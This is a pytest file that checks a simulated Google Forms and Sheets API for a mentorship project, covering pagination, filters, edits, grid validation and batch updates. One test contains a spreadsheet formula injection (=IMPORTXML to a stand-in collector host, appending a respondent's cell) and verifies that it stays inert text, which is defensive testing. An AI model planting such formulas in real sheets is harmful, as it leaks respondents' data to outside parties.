"""Forms, driven by googleapiclient."""

from __future__ import annotations

import urllib.error
from typing import Any

import pytest
from googleapiclient.errors import HttpError

from mentorship_gsheets.rehearsal.running import Rehearsal
from tests.rehearsal.conftest import open_sheet

FIELDS, NAME, ROLE, ATTENDANCE = "4d9f35b4", "1a7c03e1", "2b4d11f2", "3c2e27a3"


@pytest.fixture
def forms(google: Rehearsal, connect: Any) -> Any:
    return connect(google, "forms.v1", "forms.body", "forms.responses.readonly").forms()


def everything(forms: Any, form: str, **asked: Any) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    request = forms.responses().list(formId=form, **asked)
    while request is not None:
        page = request.execute()
        found += page.get("responses", [])
        request = forms.responses().list_next(request, page)
    return found


def test_the_form_shows_its_questions_options_and_other(google: Rehearsal, forms: Any) -> None:
    form = forms.get(formId=google.form).execute()
    fields = next(item for item in form["items"] if item["title"].startswith("Which fields"))
    choice = fields["questionItem"]["question"]["choiceQuestion"]
    assert choice["type"] == "CHECKBOX"
    assert {"value": "Meteorology, Geology"} in choice["options"]
    assert choice["options"][-1] == {"isOther": True}


@pytest.mark.parametrize("size", [1, 7, 5000])
def test_pages_bring_every_response_once(google: Rehearsal, forms: Any, size: int) -> None:
    kept = google.world.store.all(f"responses:{google.form}")
    assert [found["responseId"] for found in everything(forms, google.form, pageSize=size)] == sorted(kept)


def test_the_filter_compares_last_submitted_times(google: Rehearsal, forms: Any) -> None:
    times = sorted(found["lastSubmittedTime"] for found in everything(forms, google.form))
    since = everything(forms, google.form, filter=f"timestamp >= {times[-3]}")
    after = everything(forms, google.form, filter=f"timestamp > {times[-3]}")
    assert sorted(found["lastSubmittedTime"] for found in since) == times[-3:]
    assert sorted(found["lastSubmittedTime"] for found in after) == times[-2:]


def test_a_filter_that_is_none_is_refused(google: Rehearsal, forms: Any) -> None:
    with pytest.raises(HttpError) as error:
        everything(forms, google.form, filter="timestamp = yesterday")
    assert error.value.status_code == 400


def test_an_edit_keeps_the_response_id_and_moves_the_time(google: Rehearsal, forms: Any) -> None:
    first = everything(forms, google.form, pageSize=1)[0]
    answers = {id: [a["value"] for a in given["textAnswers"]["answers"]] for id, given in first["answers"].items()}
    answers[FIELDS] = ["Biology", "Something of my own"]
    google.control(
        "POST",
        "submit",
        {"form": google.form, "email": "x@example.org", "answers": answers, "responseId": first["responseId"]},
    )
    changed = forms.responses().get(formId=google.form, responseId=first["responseId"]).execute()
    assert changed["createTime"] == first["createTime"]
    assert changed["lastSubmittedTime"] > first["lastSubmittedTime"]
    given = changed["answers"][FIELDS]["textAnswers"]["answers"]
    assert given == [{"value": "Biology"}, {"value": "Something of my own"}]


def test_a_submission_appears_in_the_linked_tab_and_an_edit_overwrites_its_row(google: Rehearsal) -> None:
    tab = open_sheet(google).worksheet("Form Responses 1")
    before = tab.get_all_values()
    answers = {NAME: ["Ada"], ROLE: ["As a mentor"], ATTENDANCE: ["Virtually"], FIELDS: ["Health, medicine", "Own"]}
    asked = {"form": google.form, "email": "ada@example.org", "answers": answers}
    id = google.control("POST", "submit", asked)["responseId"]
    after = tab.get_all_values()
    assert after[: len(before)] == before
    assert after[-1][1:6] == ["ada@example.org", "Ada", "As a mentor", "Virtually", "Health, medicine, Own"]
    google.control("POST", "submit", asked | {"responseId": id, "answers": answers | {NAME: ["Ada L."]}})
    edited = tab.get_all_values()
    assert len(edited) == len(after)
    assert edited[-1][2] == "Ada L."


def test_an_edit_finds_its_row_though_rows_were_inserted(google: Rehearsal) -> None:
    answers = {NAME: ["Ada"], ROLE: ["As a mentor"], ATTENDANCE: ["Virtually"]}
    asked = {"form": google.form, "email": "ada@example.org", "answers": answers}
    id = google.control("POST", "submit", asked)["responseId"]
    google.control("POST", "organizer", {"steps": [{"insert": "Form Responses 1", "row": 3, "count": 2}]})
    google.control("POST", "submit", asked | {"responseId": id, "answers": answers | {NAME: ["Ada L."]}})
    names = [row[2] for row in open_sheet(google).worksheet("Form Responses 1").get_all_values()]
    assert names[-1] == "Ada L."
    assert "Ada" not in names
    assert names[2:4] == ["", ""]


def test_a_hostile_answer_stays_text_in_the_linked_tab(google: Rehearsal) -> None:
    tab = open_sheet(google).worksheet("Form Responses 1")
    values = [value for row in tab.get(value_render_option="FORMULA") for value in row]
    assert [value for value in values if str(value).startswith("=")] == [
        '=IMPORTXML("https://collector.example.net/?who="&B2, "//a")'
    ]
    shown = [value for row in tab.get() for value in row]
    assert '=IMPORTXML("https://collector.example.net/?who="&B2, "//a")' in shown


def test_required_questions_must_be_answered(google: Rehearsal) -> None:
    with pytest.raises(urllib.error.HTTPError) as error:
        google.control("POST", "submit", {"form": google.form, "email": "x@example.org", "answers": {NAME: ["x"]}})
    assert error.value.code == 400
    error.value.close()


def add(item: dict[str, Any], index: int = 0) -> dict[str, Any]:
    return {"createItem": {"item": item, "location": {"index": index}}}


def test_a_grid_is_a_question_a_row(google: Rehearsal, forms: Any) -> None:
    rows = [{"rowQuestion": {"title": "Mondays"}}, {"rowQuestion": {"title": "Fridays"}}]
    columns = {"type": "RADIO", "options": [{"value": "Free"}, {"value": "Busy"}]}
    item = {"title": "When?", "questionGroupItem": {"questions": rows, "grid": {"columns": columns}}}
    reply = forms.batchUpdate(formId=google.form, body={"requests": [add(item)]}).execute()
    ids = reply["replies"][0]["createItem"]["questionId"]
    assert len(ids) == 2
    answers = {ids[0]: ["Free"], ids[1]: ["Busy"], NAME: ["Ada"], ROLE: ["As a mentor"], ATTENDANCE: ["Virtually"]}
    asked = {"form": google.form, "email": "ada@example.org", "answers": answers}
    id = google.control("POST", "submit", asked)["responseId"]
    given = forms.responses().get(formId=google.form, responseId=id).execute()["answers"]
    assert [given[question]["textAnswers"]["answers"] for question in ids] == [[{"value": "Free"}], [{"value": "Busy"}]]


ALONE = "A row question must be in a question group item with a grid."
ROW, BOX = {"rowQuestion": {"title": "Mondays"}}, {"type": "CHECKBOX", "options": [{"value": "9:00"}]}


def grid(rows: list[dict[str, Any]], columns: dict[str, Any] | None) -> dict[str, Any]:
    group: dict[str, Any] = {"questions": rows} | ({"grid": {"columns": columns}} if columns else {})
    return {"title": "When?", "questionGroupItem": group}


def choice(**choice: Any) -> dict[str, Any]:
    return {"title": "Which?", "questionItem": {"question": {"choiceQuestion": choice}}}


@pytest.mark.parametrize(
    ("item", "why"),
    [
        (grid([], BOX), "A question group item must have at least one question."),
        (grid([ROW], None), ALONE),
        (grid([ROW], BOX | {"type": "DROP_DOWN"}), "The columns of a grid must be of type RADIO or CHECKBOX."),
        (grid([ROW], BOX | {"options": []}), "A choice question must have at least one option."),
        (grid([ROW], BOX | {"options": [{"isOther": True}]}), 'The columns of a grid cannot have an "Other" option.'),
        (grid([ROW, ROW], BOX), "Duplicate row values are not allowed."),
        (grid([{"textQuestion": {}}], BOX), "The questions of a grid must be row questions."),
        (grid([{"rowQuestion": {"title": " "}}], BOX), "The row text is required."),
        (
            {"title": "When?", "questionItem": {"question": ROW}},
            ALONE,
        ),
        (
            choice(type="DROP_DOWN", options=[{"value": "a"}, {"isOther": True}]),
            'A drop-down question cannot have an "Other" option.',
        ),
        (choice(type="RADIO", options=[{"value": "a"}, {"value": "a"}]), "Duplicate option values are not allowed."),
        (choice(type="RADIO", options=[{"value": "a\nb"}]), "Displayed text cannot contain newlines."),
        (choice(options=[{"value": "a"}]), "The choice type is required."),
    ],
)
def test_grids_and_choices_that_google_does_not_take_are_refused(
    google: Rehearsal, forms: Any, item: dict[str, Any], why: str
) -> None:
    before = forms.get(formId=google.form).execute()
    with pytest.raises(HttpError) as error:
        forms.batchUpdate(formId=google.form, body={"requests": [add(item)]}).execute()
    assert error.value.reason == f"Invalid requests[0].createItem: {why}"
    assert forms.get(formId=google.form).execute() == before


def test_only_columns_of_a_grid_can_be_ticked(google: Rehearsal, forms: Any) -> None:
    reply = forms.batchUpdate(formId=google.form, body={"requests": [add(grid([ROW], BOX))]}).execute()
    (row,) = reply["replies"][0]["createItem"]["questionId"]
    answers = {row: ["10:00"], NAME: ["Ada"], ROLE: ["As a mentor"], ATTENDANCE: ["Virtually"]}
    asked = {"form": google.form, "email": "ada@example.org"}
    before = google.world.store.ids(f"responses:{google.form}")
    with pytest.raises(urllib.error.HTTPError) as error:
        google.control("POST", "submit", asked | {"answers": answers})
    error.value.close()
    assert google.world.store.ids(f"responses:{google.form}") == before
    google.control("POST", "submit", asked | {"answers": answers | {row: ["9:00"]}})


def test_items_can_be_changed_moved_and_deleted(google: Rehearsal, forms: Any) -> None:
    before = [item["itemId"] for item in forms.get(formId=google.form).execute()["items"]]
    title = {"item": {"title": "Your name?"}, "location": {"index": 0}, "updateMask": "title"}
    requests = [
        {"updateItem": title},
        {"moveItem": {"originalLocation": {"index": 0}, "newLocation": {"index": 2}}},
        {"deleteItem": {"location": {"index": 0}}},
        {"updateFormInfo": {"info": {"title": "Again"}, "updateMask": "title"}},
    ]
    body = {"requests": requests, "includeFormInResponse": True}
    form = forms.batchUpdate(formId=google.form, body=body).execute()["form"]
    assert [item["itemId"] for item in form["items"]] == [before[2], before[0], *before[3:]]
    assert form["items"][1]["title"] == "Your name?"
    assert form["info"]["title"] == "Again"


def test_a_batch_with_one_impossible_request_changes_nothing(google: Rehearsal, forms: Any) -> None:
    before = forms.get(formId=google.form).execute()
    requests = [{"deleteItem": {"location": {"index": 0}}}, {"deleteItem": {"location": {"index": 99}}}]
    with pytest.raises(HttpError) as error:
        forms.batchUpdate(formId=google.form, body={"requests": requests}).execute()
    assert error.value.reason == "Invalid requests[1].deleteItem: Invalid location index: 99. The form has 10 items."
    assert forms.get(formId=google.form).execute() == before


def test_an_outdated_revision_is_refused(google: Rehearsal, forms: Any) -> None:
    body = {"requests": [{"deleteItem": {"location": {"index": 0}}}], "writeControl": {"requiredRevisionId": "0"}}
    with pytest.raises(HttpError) as error:
        forms.batchUpdate(formId=google.form, body=body).execute()
    assert error.value.status_code == 400


def test_a_service_account_cannot_create_forms_unless_allowed(google: Rehearsal, forms: Any) -> None:
    with pytest.raises(HttpError) as error:
        forms.create(body={"info": {"title": "Mine"}}).execute()
    assert error.value.status_code == 403
    google.control("POST", "switches", {"allow_file_creation": True})
    made = forms.create(body={"info": {"title": "Mine"}}).execute()
    assert forms.get(formId=made["formId"]).execute()["info"]["title"] == "Mine"
    assert forms.responses().list(formId=made["formId"]).execute() == {}
    with pytest.raises(HttpError) as error:
        forms.create(body={"info": {"title": "Mine"}, "items": [{"title": "x"}]}).execute()
    assert error.value.reason.startswith("Only info.title can be set when creating a form.")


def test_an_address_is_told_only_where_the_form_collects_it(google: Rehearsal, forms: Any) -> None:
    assert all("respondentEmail" in found for found in everything(forms, google.form))
    settings = {"emailCollectionType": "DO_NOT_COLLECT"}
    change = {"updateSettings": {"settings": settings, "updateMask": "emailCollectionType"}}
    forms.batchUpdate(formId=google.form, body={"requests": [change]}).execute()
    answers = {NAME: ["Ada"], ROLE: ["As a mentor"], ATTENDANCE: ["Virtually"]}
    asked = {"form": google.form, "email": "ada@example.org", "answers": answers}
    id = google.control("POST", "submit", asked)["responseId"]
    assert "respondentEmail" not in forms.responses().get(formId=google.form, responseId=id).execute()


def test_a_form_that_is_not_shared_is_forbidden_and_an_unknown_one_not_found(google: Rehearsal, forms: Any) -> None:
    google.control("POST", "share", {"file": google.form, "role": "none"})
    for form, code in ((google.form, 403), ("nosuchform", 404)):
        with pytest.raises(HttpError) as error:
            forms.get(formId=form).execute()
        assert error.value.status_code == code
